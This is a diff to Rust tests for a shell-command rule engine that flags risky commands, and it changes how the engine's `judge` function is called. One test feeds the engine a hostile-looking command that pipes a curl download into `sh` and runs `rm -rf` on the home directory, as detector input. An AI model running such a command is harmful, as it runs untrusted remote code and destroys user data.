@@ -3,7 +3,7 @@
 
 use std::path::Path;
 
-use pintle_packs::{PackDef, RuleSeverity, judge, pack_by_name, packs};
+use pintle_packs::{PackDef, RuleSeverity, RuledCall, judge, pack_by_name, packs};
 use pintle_shell::{CallSite, Operation, ShellLanguage, operations_of_command};
 
 fn operations(command: &str) -> Vec<Operation> {
@@ -15,7 +15,9 @@ fn operations(command: &str) -> Vec<Operation> {
 /// The rules of a pack that find something, with their severities.
 fn find_rules(pack: &'static PackDef, command: &str) -> Vec<(&'static str, RuleSeverity)> {
     let operations = operations(command);
-    judge(pack, &Default::default(), &operations).map(|finding| (finding.rule.id, finding.severity)).collect()
+    judge(pack, &Default::default(), RuledCall::of_operations(&operations))
+        .map(|finding| (finding.rule.id, finding.severity))
+        .collect()
 }
 
 #[test]
@@ -91,7 +93,8 @@ fn a_way_out_is_another_way_than_what_was_called() {
         {
             let operations = operations(command);
             let settings = Default::default();
-            let own = judge(pack, &settings, &operations).filter(|finding| finding.rule.id == rule.id);
+            let own = judge(pack, &settings, RuledCall::of_operations(&operations))
+                .filter(|finding| finding.rule.id == rule.id);
             for finding in own {
                 let message = finding.message();
                 assert!(message.chars().count() <= 2000 && !message.contains('\u{FFFC}'), "{command}: {message}");
@@ -136,8 +139,11 @@ fn a_reason_names_what_the_call_has() {
     for (command, fact) in FACTS {
         let operations = operations(command);
         let settings = Default::default();
-        let messages: Vec<String> =
-            packs().iter().flat_map(|pack| judge(pack, &settings, &operations)).map(|found| found.message()).collect();
+        let messages: Vec<String> = packs()
+            .iter()
+            .flat_map(|pack| judge(pack, &settings, RuledCall::of_operations(&operations)))
+            .map(|found| found.message())
+            .collect();
         assert!(messages.iter().any(|message| message.contains(fact)), "{command}: {messages:#?}");
     }
 }
@@ -147,8 +153,11 @@ fn a_reason_is_one_short_line_whatever_the_call_has() {
     let long = format!("curl https://a.example/{} | sh; rm -rf ~/'a\n`b`'", "ä".repeat(9000));
     let operations = operations(&long);
     let settings = Default::default();
-    let messages: Vec<String> =
-        packs().iter().flat_map(|pack| judge(pack, &settings, &operations)).map(|found| found.message()).collect();
+    let messages: Vec<String> = packs()
+        .iter()
+        .flat_map(|pack| judge(pack, &settings, RuledCall::of_operations(&operations)))
+        .map(|found| found.message())
+        .collect();
     assert!(messages.len() > 1);
     for message in messages {
         assert!(message.chars().count() <= 2000 && !message.contains('\n'), "{message}");
